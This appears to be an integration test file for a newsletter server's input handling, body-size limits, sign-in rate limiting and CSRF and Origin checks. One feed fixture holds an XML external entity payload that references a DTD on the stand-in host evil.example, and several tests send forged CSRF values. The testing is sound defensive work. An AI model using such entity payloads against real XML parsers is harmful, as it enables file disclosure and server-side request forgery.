import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { readFeed, FeedUnavailableError } from '../../src/content/read-feed.ts';
import { parseXml } from '../../src/content/xml-document.ts';
import { createEdition } from '../../src/editions/edition-service.ts';
import { startServer, type RunningServer } from '../../src/http/server.ts';
import { createApiToken } from '../../src/security/api-tokens.ts';
import { createList } from '../../src/subscribers/lists.ts';
import { importSubscribers } from '../../src/subscribers/subscriber-import.ts';
import { generateSubscriberCsv } from '../../src/cli/demo-readers.ts';
import { seedDigest } from '../../emails/_fixtures/seed-digest.ts';
import { startFeedServer } from '../support/feed-server.ts';
import { createTestStack, type TestStack } from '../support/test-stack.ts';

let stack: TestStack | undefined;
let server: RunningServer | undefined;
let feeds: Awaited<ReturnType<typeof startFeedServer>> | undefined;
afterEach(async () => {
  await server?.close();
  await stack?.dispose();
  await feeds?.stop();
  server = stack = feeds = undefined;
});

/** The server on real PostgreSQL and Redis, with a list, readers, a draft, an editor's token and a feed server. */
async function serving() {
  stack = await createTestStack('postgres');
  feeds = await startFeedServer();
  const { db } = stack.container;
  await createList(db, 'daily-digest', 'The Broadsheet Daily');
  await importSubscribers(db, 'daily-digest', generateSubscriberCsv(3));
  const draft = await createEdition(db, { listSlug: 'daily-digest', content: seedDigest });
  const { token } = await createApiToken(db, 'desk', 'editor');
  server = await startServer(stack.container, 0, '127.0.0.1');
  const base = server.url;
  const api = (method: string, path: string, body?: unknown, raw?: string) =>
    fetch(`${base}${path}`, {
      method,
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: raw ?? (body === undefined ? undefined : JSON.stringify(body)),
    });
  const preferencesPath = stack.container.links.preferences(1).replace('https://letters.broadsheet.example', '');
  return { db, base, api, token, draft, preferencesPath, feeds: feeds! };
}

/** A desk session as a browser gets one, with the CSRF value of its pages. */
async function deskSession(base: string, token: string) {
  const login = await fetch(`${base}/desk/login`);
  const cookie = login.headers.getSetCookie().map((c) => c.split(';')[0]).join('; ');
  const csrf = /name="_csrf" value="([^"]+)"/.exec(await login.text())![1]!;
  const signedIn = await fetch(`${base}/desk/login`, {
    method: 'POST',
    redirect: 'manual',
    headers: { cookie, 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ token, _csrf: csrf, next: '/desk' }),
  });
  const session = signedIn.headers.getSetCookie().map((c) => c.split(';')[0]).join('; ');
  const home = await fetch(`${base}/desk`, { headers: { cookie: session } });
  return { cookie: session, csrf: /name="_csrf" value="([^"]+)"/.exec(await home.text())![1]!, loginCookie: cookie, loginCsrf: csrf };
}

describe('bad input gets a 4xx with the reason, never a 5xx (PostgreSQL, Redis)', () => {
  it('answers every case the issue found with a 4xx, JSON on /api', async () => {
    const { base, api, token, draft, preferencesPath, feeds } = await serving();
    feeds.set('/null-item.json', 200, JSON.stringify({ version: 'https://jsonfeed.org/version/1.1', items: [null, { id: '1', url: 'https://n.example/1', title: 'Kept', date_published: new Date().toISOString() }] }), { 'content-type': 'application/feed+json' });
    feeds.set('/doctype.rss', 200, `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss version="2.0"><channel><item><title>Caf&eacute;</title><link>https://n.example/c</link><pubDate>${new Date().toUTCString()}</pubDate></item></channel></rss>`);
    feeds.set('/page.html', 200, '<!DOCTYPE html><html><head><link rel="alternate" type="application/rss+xml" href="/feed.xml"></head><body></body></html>', { 'content-type': 'text/html' });
    const desk = await deskSession(base, token);
    const seen: [string, number][] = [];
    const check = async (name: string, res: Response | Promise<Response>, want: number, body?: RegExp) => {
      const r = await res;
      const text = await r.text();
      seen.push([name, r.status]);
      expect(r.status, `${name}: ${text.slice(0, 300)}`).toBe(want);
      if (body) expect(text, name).toMatch(body);
      return text;
    };

    // A JSON Feed item that is null: the item is skipped, the draft is made.
    await check('JSON Feed null item', api('POST', '/api/editions', { list: 'daily-digest', feed: { url: `${feeds.url}/null-item.json` } }), 201, /"item":"items\[0\]","reason":"items\[0\]: not an object \(got null\)"/);
    // An internal DOCTYPE with a parameter entity, and an HTML entity: read, not a 500.
    await check('internal DOCTYPE', api('POST', '/api/editions', { list: 'daily-digest', feed: { url: `${feeds.url}/doctype.rss` } }), 201, /"headline":"Café"/);
    await check('a web page for a feed', api('POST', '/api/editions', { list: 'daily-digest', feed: { url: `${feeds.url}/page.html` } }), 400, /this is a web page \(HTML\), not a feed\. The page names its feed: http:\/\/127\.0\.0\.1:\d+\/feed\.xml/);
    // A NUL byte in an API string.
    await check('NUL in a JSON string', api('PATCH', `/api/editions/${draft.id}`, { subject: 'Hola\u0000' }), 400, /"error":"subject: must not contain a NUL character"/);
    await check('NUL deep in content', api('POST', '/api/editions', { list: 'daily-digest', content: { lead: { ...seedDigest.lead, headline: 'a\u0000b' } } }), 400, /content\.lead\.headline: must not contain a NUL character/);
    await check('control character in a subject', api('PATCH', `/api/editions/${draft.id}`, { subject: 'Hola\u0001' }), 400, /subject: contains a control character \(U\+0001\)/);
    await check('not JSON', api('POST', '/api/editions', undefined, '{"list":'), 400, /body: must be JSON/);
    await check('an id out of range', api('DELETE', '/api/sponsors/99999999999'), 400, /a sponsor id is a whole number/);
    await check('an edition id that is not one', api('GET', '/api/editions/not-a-uuid'), 404, /"error":"no edition \\"not-a-uuid\\""/);
    await check('an unknown route under /api answers JSON', api('GET', '/api/nothing-here'), 404, /^\{"error":"no such route: GET \/api\/nothing-here"\}$/);
    // Reader pages: a NUL in the preferences form, a list id out of range.
    await check('NUL in the preferences form', fetch(`${base}${preferencesPath}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'name=A%00na' }), 400, /name: must not contain a NUL character/);
    await check('list id out of range', fetch(`${base}${preferencesPath}`, { method: 'POST', redirect: 'manual', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'name=Ana&list=99999999999&list=1' }), 303);
    // A multibyte CSRF value, on the sign-in page and on a desk form.
    await check('multibyte CSRF at sign-in', fetch(`${base}/desk/login`, { method: 'POST', headers: { cookie: desk.loginCookie, 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ token, _csrf: 'é'.repeat(43) }) }), 403);
    await check('multibyte CSRF on a desk form', fetch(`${base}/desk/editions/${draft.id}/save`, { method: 'POST', headers: { cookie: desk.cookie, 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ _csrf: `${desk.csrf.slice(0, 42)}é`, subject: 'x' }) }), 403);
    await check('a form that cannot be read', fetch(`${base}/desk/editions/${draft.id}/save`, { method: 'POST', headers: { cookie: desk.cookie, 'content-type': 'multipart/form-data; boundary=x' }, body: '--y\r\nnonsense' }), 400);

    expect(seen.filter(([, status]) => status >= 500)).toEqual([]);
  });

  it('says a feed that never finishes answering timed out, as a FeedError (400 over HTTP, retried by schedules)', async () => {
    // Headers, then nothing: the old code timed out inside the body read and answered 500.
    const stall = createServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/rss+xml' });
      res.write('<rss><channel>');
    });
    await new Promise<void>((r) => stall.listen(0, '127.0.0.1', r));
    try {
      const url = `http://127.0.0.1:${(stall.address() as AddressInfo).port}/feed.xml`;
      await expect(readFeed(url, { timeoutMs: 300 })).rejects.toThrow(FeedUnavailableError);
      await expect(readFeed(url, { timeoutMs: 300 })).rejects.toThrow(/^cannot fetch feed http:\/\/127\.0\.0\.1:\d+\/feed\.xml: no complete answer within 0\.3 s$/);
    } finally {
      stall.closeAllConnections();
      await new Promise((r) => stall.close(r));
    }
  });

  it('keeps the archive feed valid XML when a subject has a control character in it (stored before it was refused)', async () => {
    const { db, base, draft } = await serving();
    await db.query(`update editions set status = 'sent', subject = 'Hoy' || chr(1) || ' en ' || chr(27) || 'la ciudad', completed_at = now() where id = $1`, [draft.id]);
    const res = await fetch(`${base}/archive/list/daily-digest/feed.xml`);
    expect(res.status).toBe(200);
    const xml = await res.text();
    expect(() => parseXml(xml)).not.toThrow();
    expect(xml).toContain('<title>Hoy en la ciudad</title>');
  });
});

describe('limits before work (PostgreSQL, Redis)', () => {
  it('refuses oversized bodies with 413 before reading, parsing or authenticating them', async () => {
    const { base, token } = await serving();
    const big = (kb: number) => 'x'.repeat(kb * 1024);
    const cases: [string, RequestInit, number][] = [
      ['/webhooks/resend', { method: 'POST', body: big(300), headers: { 'content-type': 'application/json' } }, 413],
      ['/api/subscribe', { method: 'POST', body: big(20), headers: { 'content-type': 'application/json' } }, 413],
      ['/desk/login', { method: 'POST', body: big(20), headers: { 'content-type': 'application/x-www-form-urlencoded' } }, 413],
      // No token at all: the size is judged first, so a stranger cannot make the server read 2 MB to learn it needs one.
      ['/api/editions', { method: 'POST', body: big(2048), headers: { 'content-type': 'application/json' } }, 413],
      ['/api/editions', { method: 'POST', body: big(2048), headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` } }, 413],
      ['/api/editions', { method: 'POST', body: '{}', headers: { 'content-type': 'application/json' } }, 401],
    ];
    for (const [path, init, want] of cases) {
      const res = await fetch(`${base}${path}`, init);
      expect(res.status, path).toBe(want);
      if (want === 413) expect(await res.text(), path).toMatch(/larger than \d+ KB/);
    }
    // A chunked body (no Content-Length) is cut off as it passes the limit.
    const chunked = new ReadableStream({
      start(controller) {
        for (let i = 0; i < 40; i++) controller.enqueue(new TextEncoder().encode(big(16)));
        controller.close();
      },
    });
    const res = await fetch(`${base}/webhooks/resend`, { method: 'POST', body: chunked, duplex: 'half', headers: { 'content-type': 'application/json' } } as RequestInit);
    expect(res.status).toBe(413);
  });
});

describe('the desk’s doors (PostgreSQL, Redis)', () => {
  it('limits failed sign-ins per client, but never refuses a valid token because someone there mistyped', async () => {
    const { base, token } = await serving();
    const { loginCookie, loginCsrf } = await deskSession(base, token);
    const attempt = (t: string) =>
      fetch(`${base}/desk/login`, { method: 'POST', redirect: 'manual', headers: { cookie: loginCookie, 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ token: t, _csrf: loginCsrf }) });
    const wrong = `bs_editor_${'x'.repeat(43)}`;
    for (let i = 0; i < 10; i++) expect((await attempt(wrong)).status).toBe(401);
    expect((await attempt(wrong)).status).toBe(429);
    expect((await attempt(token)).status).toBe(303);
  });

  it('compares the Origin as scheme, host and port', async () => {
    const { base, token, draft } = await serving();
    const desk = await deskSession(base, token);
    const post = (origin: string) =>
      fetch(`${base}/desk/editions/${draft.id}/save`, {
        method: 'POST',
        redirect: 'manual',
        headers: { cookie: desk.cookie, origin, 'content-type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({ _csrf: desk.csrf, subject: 'Same origin' }),
      });
    const { port, hostname } = new URL(base);
    expect((await post(`http://${hostname}:${Number(port) + 1}`)).status).toBe(403);
    expect((await post(`https://${hostname}:${port}`)).status).toBe(403);
    expect((await post(base)).status).toBe(303);
  });

  it('makes Bull Board’s changes carry the desk’s CSRF value', async () => {
    const { db, base } = await serving();
    const { token: admin } = await createApiToken(db, 'ops', 'admin');
    const desk = await deskSession(base, admin);
    const page = await (await fetch(`${base}/desk/queues`, { headers: { cookie: desk.cookie } })).text();
    expect(page).toContain(`<meta name="bs-csrf" content="${desk.csrf}"><script src="/desk/assets/board-csrf.js"></script>`);
    const pause = (headers: Record<string, string>) => fetch(`${base}/desk/queues/api/queues/pause`, { method: 'PUT', headers: { cookie: desk.cookie, ...headers } });
    expect((await pause({})).status).toBe(403);
    expect((await pause({ 'x-csrf-token': 'é'.repeat(43) })).status).toBe(403);
    expect((await pause({ 'x-csrf-token': desk.csrf })).status).toBeLessThan(300);
    await fetch(`${base}/desk/queues/api/queues/resume`, { method: 'PUT', headers: { cookie: desk.cookie, 'x-csrf-token': desk.csrf } });
  });
});
